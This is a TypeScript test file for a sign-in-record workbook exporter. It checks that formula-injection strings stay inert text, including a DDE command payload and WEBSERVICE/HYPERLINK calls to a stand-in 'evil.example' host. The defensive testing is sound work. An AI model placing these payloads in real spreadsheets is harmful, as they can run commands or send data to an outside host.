// sign-ins.xlsx, read back by exceljs and LibreOffice and taken apart with unzip: text stays text, nothing is hidden.
import { execFileSync } from 'node:child_process';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { JsonObject } from '../../../../shared/model/json.ts';
import { sheetPlans } from '../../../../shared/package/sheet-plans.ts';
import type { RedactedRecord } from '../../../../shared/redact/redacted-record.ts';
import { hasTool } from '../../../support/outside-tools.ts';
import { packageIn, plainRecord, plainReleased, released, temporaryFolder } from '../package-under-test.ts';

const folder = temporaryFolder();
afterAll(folder.remove);

const hasUnzip = hasTool('unzip');

/** Strings that programs like to take for something else. */
const hostile: readonly string[] = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '=WEBSERVICE("http://evil.example")',
  '＝1+1',
  '\t=1+1',
  "'=1+1",
  ' leading and trailing ',
  'two\nlines',
  '<b>&amp;"\'',
  ']]>',
  '_x0041_',
  '_x005F_',
  '_xZZZZ_',
  '1e5',
  '007',
  '2026-01-01',
  'TRUE',
  '#REF!',
  'Zürich 日本 🏛',
  'rtl \u202e txet',
  '\ufeffbom',
];

async function workbookOf(name: string, records: Iterable<RedactedRecord>, rowsPerSheet?: number): Promise<string> {
  const { file } = await packageIn(folder.path, records, rowsPerSheet === undefined ? {} : { rowsPerSheet }, name);
  const target = join(folder.path, `${name}.xlsx`);
  writeFileSync(target, execFileSync('unzip', ['-p', file, 'sign-ins.xlsx'], { maxBuffer: 1 << 28 }));
  return target;
}

async function readBack(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

const column = (title: string): number =>
  sheetPlans('en').signIns.headings.findIndex(({ field }) => field === title) + 1;

/** The text of a cell as a reader of the format sees it, `_xHHHH_` decoded. */
function textOf(sheet: ExcelJS.Worksheet, row: number, at: number): string {
  const { value } = sheet.getCell(row, at);
  if (typeof value !== 'object' || value === null) return String(value ?? '');
  return 'richText' in value ? value.richText.map(({ text }) => text).join('') : JSON.stringify(value);
}
const decoded = (text: string): string =>
  text.replace(/_x([0-9A-Fa-f]{4})_/g, (_, hex: string) => String.fromCharCode(Number.parseInt(hex, 16)));

describe.skipIf(!hasUnzip)('the workbook', () => {
  let plain = '';
  beforeAll(async () => {
    plain = await workbookOf('plain', plainReleased(5));
  });

  it('has the six sheets, frozen below bold headings, with a filter', async () => {
    const workbook = await readBack(plain);
    expect(workbook.worksheets.map(({ name }) => name)).toEqual([
      'Summary',
      'Sign-ins',
      'Authentication',
      'Conditional Access',
      'Withheld',
      'Words',
    ]);
    const signIns = workbook.getWorksheet('Sign-ins');
    expect(signIns?.rowCount).toBe(7);
    expect(signIns?.views[0]).toMatchObject({ state: 'frozen', ySplit: 2 });
    expect(JSON.stringify(signIns?.autoFilter)).toMatch(/A2:A[A-Z]7/);
    expect(signIns?.getCell('A1').font?.bold).toBe(true);
    expect(signIns?.getCell('C3').font?.bold ?? false).toBe(false);
  });

  it('shows times as dates beside their own text, and numbers and truth values as what they are', async () => {
    const sheet = (await readBack(plain)).getWorksheet('Sign-ins');
    const row = sheet?.getRow(3);
    expect(row?.getCell(2).value).toEqual(new Date('2026-02-01T10:00:00.123Z'));
    expect(row?.getCell(column('createdDateTime')).value).toBe('2026-02-01T10:00:00.1234567Z');
    expect(row?.getCell(column('status.errorCode')).value).toBe(50126);
    expect(row?.getCell(column('isInteractive')).value).toBe(true);
    expect(row?.getCell(column('location.geoCoordinates.latitude')).value).toBe(47.4);
  });

  it('has a row for each step of authentication and each delivered policy, and counts the removed ones', async () => {
    const workbook = await readBack(plain);
    expect(workbook.getWorksheet('Authentication')?.rowCount).toBe(7);
    expect(workbook.getWorksheet('Conditional Access')?.rowCount).toBe(7);
    const headings = sheetPlans('en').signIns.headings;
    const cells = workbook.getWorksheet('Sign-ins')?.getRow(4);
    const end = [4, 3, 2, 1].map((back) => cells?.getCell(headings.length - back + 1).value);
    expect(end.slice(0, 3)).toEqual([3, 1, 0]);
    const sheet = workbook.getWorksheet('Sign-ins');
    expect(sheet === undefined ? '' : textOf(sheet, 4, headings.length)).toBe('/records/1/record');
  });

  it('holds only the parts that it needs, and nothing that could act or hide', () => {
    const names = execFileSync('unzip', ['-Z1', plain], { encoding: 'utf8' }).trim().split('\n');
    expect(names[0]).toBe('[Content_Types].xml');
    for (const name of names) {
      expect(name).toMatch(
        /^(\[Content_Types\]\.xml|_rels\/\.rels|docProps\/(app|core)\.xml|xl\/(workbook|styles)\.xml|xl\/theme\/theme1\.xml|xl\/_rels\/workbook\.xml\.rels|xl\/worksheets\/sheet[1-6]\.xml)$/,
      );
    }
    for (const name of names) {
      // `[` is a pattern to unzip.
      const xml = execFileSync('unzip', ['-p', plain, name.replace('[', '\\[')], {
        encoding: 'utf8',
        maxBuffer: 1 << 28,
      });
      const elements = new Set<string>();
      const parser = new SaxesParser({});
      parser.on('opentag', (tag) => elements.add(tag.name));
      parser.write(xml).close();
      for (const element of ['f', 'hyperlink', 'definedName', 'externalReference', 'legacyDrawing', 'dataValidation']) {
        expect([name, elements.has(element)]).toEqual([name, false]);
      }
      expect(xml).not.toMatch(/hidden=|veryHidden|state="hidden"|width="0"|TargetMode="External"|<!DOCTYPE/);
    }
    const core = execFileSync('unzip', ['-p', plain, 'docProps/core.xml'], { encoding: 'utf8' });
    expect(core).toContain('<dcterms:created xsi:type="dcterms:W3CDTF">2026-03-02T08:15:22Z');
    expect(core).toContain('<dc:creator>Signet</dc:creator>');
    const list = execFileSync('unzip', ['-Z', '-T', plain], { encoding: 'utf8' });
    expect(list.match(/20260302\.081522/g)).toHaveLength(names.length);
  });

  it('goes on in further sheets when one is full, each beside its first part', async () => {
    const workbook = await readBack(await workbookOf('split', plainReleased(8), 3));
    const names = workbook.worksheets.map(({ name }) => name);
    expect(names.slice(0, 4)).toEqual(['Summary', 'Sign-ins', 'Sign-ins 2', 'Sign-ins 3']);
    expect(names).toContain('Conditional Access 3');
    const rows = ['Sign-ins', 'Sign-ins 2', 'Sign-ins 3'].map((name) => workbook.getWorksheet(name)?.rowCount);
    expect(rows).toEqual([5, 5, 4]);
    expect(workbook.getWorksheet('Sign-ins 3')?.getCell('A3').value).toBe(7);
  });

  it('cuts a text that no cell can hold, points to the whole one, and counts it', async () => {
    const long = `${'a'.repeat(32_700)}${'🏛'.repeat(100)}`;
    const name = 'long';
    const records = [
      released(plainRecord(0)),
      released(plainRecord(1, { userAgent: long, appDisplayName: 'x'.repeat(32_767) })),
    ];
    const { file, written } = await packageIn(folder.path, records, {}, name);
    expect(written.counts.truncatedCells).toBe(1);
    const target = join(folder.path, 'long.xlsx');
    writeFileSync(target, execFileSync('unzip', ['-p', file, 'sign-ins.xlsx'], { maxBuffer: 1 << 28 }));
    const sheet = (await readBack(target)).getWorksheet('Sign-ins');
    const text = sheet === undefined ? '' : textOf(sheet, 4, column('userAgent'));
    expect(text.length).toBeLessThanOrEqual(32_767);
    expect(text.endsWith('below /records/1/record]')).toBe(true);
    expect(text.isWellFormed()).toBe(true);
    expect(sheet === undefined ? 0 : textOf(sheet, 4, column('appDisplayName')).length).toBe(32_767);
  });
});

describe.skipIf(!hasUnzip)('hostile text in the workbook', () => {
  const withControls = [...hostile, 'bell\u0007', 'cr\rlf\r\n', 'lone \ud800 surrogate', '\u0000nul', '\uffff'];
  const recordOf = (text: string, number: number): JsonObject =>
    plainRecord(number, { userAgent: text, appDisplayName: text, status: { errorCode: 1, failureReason: text } });

  it('comes back from exceljs as it was', async () => {
    const file = await workbookOf(
      'hostile',
      withControls.map((text, number) => released(recordOf(text, number))),
    );
    const sheet = (await readBack(file)).getWorksheet('Sign-ins');
    if (sheet === undefined) throw new Error('no sheet');
    withControls.forEach((text, index) => {
      expect(decoded(textOf(sheet, index + 3, column('userAgent')))).toBe(text);
    });
  });

  it.skipIf(!hasTool('soffice'))('comes back from LibreOffice as it was, nothing recalculated', async () => {
    const file = await workbookOf(
      'office',
      hostile.map((text, number) => released(recordOf(text, number))),
    );
    const out = join(folder.path, 'csv');
    mkdirSync(out);
    const filter = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1';
    const profile = `-env:UserInstallation=${pathToFileURL(join(folder.path, 'profile'))}`;
    execFileSync('soffice', [profile, '--headless', '--convert-to', filter, '--outdir', out, file], {
      stdio: 'ignore',
      // It waits for ever when something is not to its liking, and would keep every test behind it waiting.
      timeout: 100_000,
      killSignal: 'SIGKILL',
    });
    const rows: string[][] = parse(readFileSync(join(out, 'office-Sign-ins.csv'), 'utf8'), { bom: false });
    expect(rows).toHaveLength(hostile.length + 2);
    const got = hostile.map((_, index) => rows[index + 2]?.[column('userAgent') - 1]);
    expect(got).toEqual(hostile);
    expect(rows[2]?.[1]).toBe('2026-02-01 10:00:00');
  });
});
